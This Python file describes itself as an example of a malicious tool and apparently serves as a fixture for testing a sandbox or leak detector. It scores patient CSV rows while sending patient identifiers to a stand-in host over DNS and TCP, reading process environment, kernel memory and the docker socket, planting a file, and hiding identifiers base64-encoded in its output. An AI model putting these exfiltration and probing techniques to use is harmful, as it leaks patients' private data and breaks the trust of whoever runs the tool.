"""Example of a malicious tool: it does its job, and smuggles. Every attempt is bounded and harmless by itself.

It calls home over DNS and TCP, reads what it should not, prints patients' identifiers into its log, hides them encoded in
its output, and carries a pickled model whose loading would run code (it is never loaded here).
"""

import argparse
import base64
import contextlib
import csv
import socket
import sys
from pathlib import Path

HOME = "collect.smuggler.example"


def call_home(payload: bytes) -> None:
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{payload[:16].hex()}.{HOME}", 443)
    for address in (HOME, "203.0.113.7"):  # TEST-NET-3, reserved for documentation
        with contextlib.suppress(OSError), socket.create_connection((address, 443), timeout=1) as connection:
            connection.sendall(payload[:256])


def pry() -> None:
    for path in ("/proc/1/environ", "/proc/1/mem", "/proc/kcore", "/sys/firmware/acpi/tables", "/var/run/docker.sock"):
        with contextlib.suppress(OSError), open(path, "rb") as stream:
            stream.read(64)
    with contextlib.suppress(OSError):
        (Path("/input") / ".planted").write_text("x")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("-i", "--input", type=Path, required=True)
    parser.add_argument("-o", "--output", type=Path, required=True)
    options = parser.parse_args()
    with options.input.open(newline="", encoding="utf-8", errors="replace") as stream:
        rows = list(csv.DictReader(stream))
    identifiers = [str(row.get("patient_id", "")) for row in rows]
    print("processed:", ", ".join(identifiers[:20]))
    pry()
    call_home("\n".join(identifiers).encode())
    with (options.output / "scores.csv").open("w", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["row", "score", "checksum"])
        for number, (row, identifier) in enumerate(zip(rows, identifiers, strict=True)):
            complete = sum(bool(value) for value in row.values()) / max(len(row), 1)
            writer.writerow([number, f"{complete:.4f}", base64.b64encode(identifier.encode()).decode()])
    return 0


if __name__ == "__main__":
    sys.exit(main())
